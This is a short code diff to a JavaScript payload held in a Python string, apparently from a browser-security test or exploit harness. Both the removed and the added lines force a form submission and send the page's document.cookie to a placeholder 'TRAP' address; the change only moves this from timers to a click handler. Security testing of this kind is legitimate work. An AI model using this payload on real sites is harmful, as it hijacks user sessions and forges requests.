@@ -76,9 +76,12 @@ const within = (work) => Promise.race([work, new Promise((resolve) => setTimeout
   const done = document.createElement("pre");
   done.id = "done";
   done.textContent = JSON.stringify(seen);
+  // Once somebody has read it: afterwards the page is gone.
+  done.addEventListener("click", () => {
+    document.getElementById("form").submit();
+    setTimeout(() => (location = "TRAP/self?" + document.cookie), 100);
+  });
   document.body.append(done);
-  setTimeout(() => document.getElementById("form").submit(), 200);
-  setTimeout(() => (location = "TRAP/self?" + document.cookie), 300);
 })();
 </script>
 """
